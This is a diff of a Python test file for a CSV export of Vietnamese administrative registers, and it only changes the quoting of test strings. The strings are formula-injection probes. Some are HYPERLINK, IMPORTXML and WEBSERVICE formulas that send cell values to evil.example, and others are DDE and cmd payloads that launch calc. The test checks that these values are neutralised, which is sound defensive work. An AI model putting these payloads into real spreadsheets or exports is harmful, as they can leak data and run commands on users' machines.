@@ -18,12 +18,12 @@ from hcc.dossiers import CSV_COLUMNS, Dossier, Register, RegisterBook, formula_s
 
 PROBES: list[str] = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
-    "=HYPERLINK(\"http://evil.example\")",
+    '=HYPERLINK("http://evil.example")',
     "=1+1",
     "=cmd|' /C calc'!A0",
-    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")",
-    "=WEBSERVICE(\"http://evil.example\")",
-    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
+    '=WEBSERVICE("http://evil.example")',
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
     "+cmd|' /C calc'!A0",
     "+1+1",
     "+84 912 345 678",
@@ -108,7 +108,7 @@ def _book(names: list[str]) -> RegisterBook:
                 procedure_name="Chứng thực bản sao từ bản chính",
                 lead_agency="UBND xã",
                 applicant=name,
-                address="=HYPERLINK(\"http://evil.example\")",
+                address='=HYPERLINK("http://evil.example")',
                 phone="+84 912 345 678",
                 note="@SUM(A1:A2)",
                 time_limit="Trong ngày",
@@ -139,7 +139,7 @@ def test_register_csv_neutralises_applicant_address_phone_and_note() -> None:
         "'-2+3",
         "Nguyễn Văn An",
     ]
-    assert rows[0]["address"] == "'=HYPERLINK(\"http://evil.example\")"
+    assert rows[0]["address"] == '\'=HYPERLINK("http://evil.example")'
     assert rows[0]["phone"] == "'+84 912 345 678"
     # numbers stay numbers: the entry number and the number of sets are not prefixed
     assert [r["number"] for r in rows] == ["01", "02", "03", "04", "05"]
